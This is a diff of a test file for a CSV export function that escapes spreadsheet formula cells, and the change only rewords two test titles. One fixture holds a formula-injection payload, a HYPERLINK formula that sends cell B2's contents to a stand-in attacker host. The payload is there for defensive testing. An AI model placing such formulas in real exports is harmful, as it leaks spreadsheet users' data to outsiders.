@@ -24,13 +24,13 @@ test.each([
 	expect(await textOf(await makeCsv([name], (Name) => ({ Name })))).toBe(`\uFEFFName\r\n"'${name}"`);
 });
 
-test("disarms the known attack, whose formula goes on behind a line break", async () => {
+test("disarms the known attack, whose formula continues after a line break", async () => {
 	const attack = '=HYPERLINK("http://evil.example/?"&B2,\n"Open the brief")';
 	const file = await makeCsv([attack], (Message) => ({ Name: "Eve", Message }));
 	expect(await textOf(file)).toContain(`Eve,"'=HYPERLINK(""http://evil.example/?""&B2,`);
 });
 
-test("leaves alone what no spreadsheet would run", async () => {
+test("leaves text unchanged that no spreadsheet would run", async () => {
 	const texts = ["1 + 1 = 2", "a-b", "ada@example.com", "(030) 12 34", "Hello\n=1", "", "#1"];
 	const file = await makeCsv(texts, (Text) => ({ Text, Amount: -12.5 }));
 	expect(await textOf(file)).not.toContain("'");
